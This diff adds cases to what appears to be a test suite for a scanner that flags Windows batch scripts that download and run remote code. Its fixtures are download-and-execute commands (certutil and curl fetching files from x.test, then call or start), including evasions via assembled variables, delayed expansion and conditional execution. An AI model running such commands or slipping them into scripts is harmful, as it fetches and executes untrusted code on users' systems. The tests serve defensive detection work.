@@ -51,6 +51,14 @@ describe('downloads and execution', () => {
     ],
     ['variables assembled', 'set a=cu& set b=rl\n%a%%b% -o x.cmd https://x.test/x.cmd\ncall x.cmd\n'],
     [
+      'run under if exist',
+      'set "F=%TEMP%\\c.cmd"\ncertutil -urlcache -split -f "https://x.test/c.cmd" "%F%"\nif exist "%F%" call "%F%" /q\n',
+    ],
+    [
+      'run under a comparison',
+      'curl -o u.cmd https://x.test/u.cmd\nif /i "%1"=="go" call u.cmd\nif not %V% EQU 1 start u.cmd\n',
+    ],
+    [
       'delayed expansion',
       'setlocal EnableDelayedExpansion\nset u=https://x.test/d.exe\ncurl -o d.exe !u!\nstart d.exe\n',
     ],
